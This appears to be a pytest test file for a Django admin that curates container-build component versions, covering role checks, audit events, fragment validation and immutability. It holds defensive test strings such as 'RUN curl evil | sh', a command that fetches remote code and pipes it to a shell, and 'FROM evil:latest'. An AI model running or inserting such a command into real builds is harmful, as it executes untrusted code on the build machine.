"""Catalog curation in the admin: platform admins (a portal role, not Django staff) only; audited;
component versions immutable and their fragments checked."""
import pytest

from catalog.models import BaseImage, Component, ComponentVersion
from portal.models import AuditEvent, GlobalRole
from tests.factories import UserFactory, with_role

pytestmark = pytest.mark.django_db
ADD_VERSION = "/admin/catalog/componentversion/add/"


@pytest.fixture
def platform_admin(db):
    return with_role(UserFactory(username="pat"), GlobalRole.Kind.PLATFORM_ADMIN)


@pytest.fixture(autouse=True)
def debian(db):
    """A base to compose a new version on (the add form checks it as the Catalog page does)."""
    return BaseImage.objects.create(slug="debian-12", name="Debian 12", repository="base/debian", tag="bookworm",
                                    digest="sha256:" + "4" * 64, os_family="debian", approved=True)


@pytest.fixture
def component(db):
    return Component.objects.create(slug="htop", name="htop", kind="option")


def version_form(component, fragment):
    return {"component": component.pk, "version": "1", "fragment": fragment, "final_fragment": "",
            "parameters": "[]", "requires": "[]", "conflicts": "[]", "os_families": '["debian"]', "lifecycle": "published"}


def test_it_lets_a_platform_admin_curate_without_being_staff(client, platform_admin, component):
    assert not platform_admin.is_staff
    client.force_login(platform_admin)
    assert client.get(ADD_VERSION).status_code == 200
    response = client.post(ADD_VERSION, version_form(component, "RUN apt-get install -y htop"))
    assert response.status_code == 302, response.content.decode()[:2000]
    version = ComponentVersion.objects.get(component=component)
    event = AuditEvent.objects.get(action="catalog.componentversion.created")
    assert (event.actor, event.target_id) == (platform_admin, str(version.pk))


@pytest.mark.parametrize("who", ["member", "reviewer"])
def test_it_keeps_everyone_else_out_of_curation(client, member, reviewer, who):
    client.force_login({"member": member, "reviewer": reviewer}[who])
    response = client.get(ADD_VERSION, follow=True)
    assert response.status_code == 403
    assert "platform admins" in response.content.decode()


def test_it_refuses_a_fragment_with_from_or_an_undeclared_placeholder(client, platform_admin, component):
    client.force_login(platform_admin)
    for fragment, message in [("FROM evil:latest", "not allowed"), ("RUN echo {{ who }}", "has no parameter")]:
        response = client.post(ADD_VERSION, version_form(component, fragment))
        assert response.status_code == 200 and message in response.content.decode()
    assert not ComponentVersion.objects.exists()


def test_a_version_added_here_is_checked_as_on_the_catalog_page(client, platform_admin, component):
    client.force_login(platform_admin)
    for changes, message in [({"requires": '["nope"]'}, "Not a component of the catalog: nope"),
                             ({"parameters": '[{"name": "port", "type": "port", "default": "80"}]'},
                              "the default: must be between 1024 and 65535"),
                             ({"os_families": '["busybox"]'}, "No approved base image is of the family busybox")]:
        response = client.post(ADD_VERSION, {**version_form(component, "RUN true"), **changes})
        assert response.status_code == 200 and message in response.content.decode()
    assert not ComponentVersion.objects.exists()


def test_it_keeps_published_versions_immutable_except_their_lifecycle(component):
    version = ComponentVersion.objects.create(component=component, version="1", fragment="RUN true", os_families=["debian"])
    version.lifecycle = "deprecated"
    version.save()
    version.fragment = "RUN curl evil | sh"
    with pytest.raises(Exception, match="immutable"):
        version.save()
    assert ComponentVersion.objects.get().fragment == "RUN true"


def test_the_admin_cannot_move_a_lifecycle_around_its_rules(client, platform_admin, component):
    """The lifecycle moves on the Catalog pages only (curation.lifecycle): a new version starts as a
    draft or published, and a saved one's lifecycle is read-only here."""
    client.force_login(platform_admin)
    refused = client.post(ADD_VERSION, {**version_form(component, "RUN true"), "lifecycle": "retired"})
    assert refused.status_code == 200 and "Select a valid choice" in refused.content.decode()
    version = ComponentVersion.objects.create(component=component, version="1", fragment="RUN true", os_families=["debian"])
    change = f"/admin/catalog/componentversion/{version.pk}/change/"
    client.post(change, {**version_form(component, "RUN true"), "lifecycle": "retired"})
    assert ComponentVersion.objects.get(pk=version.pk).lifecycle == "published"


def test_the_admin_used_by_names_each_recipe_with_its_team_and_links_the_catalog_page(client, platform_admin, recipe,
                                                                                   runtime_user):
    client.force_login(platform_admin)
    text = client.get(f"/admin/catalog/component/{runtime_user.component.pk}/change/").content.decode()
    assert f'<a href="/recipes/{recipe.pk}/">payments/pay-api</a>' in text
    assert '<a href="/catalog/components/runtime-user">Open its Catalog page</a>' in text
